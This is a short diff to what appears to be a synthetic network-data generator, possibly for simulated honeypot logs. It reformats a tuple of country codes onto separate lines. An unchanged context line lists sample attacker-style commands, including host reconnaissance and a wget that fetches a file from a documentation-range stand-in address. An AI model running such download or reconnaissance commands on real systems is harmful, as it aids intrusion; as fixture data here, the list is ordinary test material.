@@ -37,7 +37,26 @@ _NETWORK_SKEW, _ADDRESS_SKEW = 0.9, 0.8
 # private use, and never in a registry's book
 _FIRST_ASN = 4_200_000_000
 _FIRST_ADDRESS = 11 << 24
-_COUNTRIES = ("CN", "US", "NL", "RU", "DE", "VN", "BR", "IN", "FR", "KR", "SG", "GB", "ID", "IT", "UA", "TR", "PL", "SE")
+_COUNTRIES = (
+    "CN",
+    "US",
+    "NL",
+    "RU",
+    "DE",
+    "VN",
+    "BR",
+    "IN",
+    "FR",
+    "KR",
+    "SG",
+    "GB",
+    "ID",
+    "IT",
+    "UA",
+    "TR",
+    "PL",
+    "SE",
+)
 _TYPES = ("HOSTING", "ISP", "CLOUD", "ISP", "UNKNOWN", "ENTERPRISE", "HOSTING", "EDUCATION", "VPN", "ISP")
 _MOVED_SHARE = 0.01
 _COMMANDS = ("uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.1/x", "free -m", "nproc")
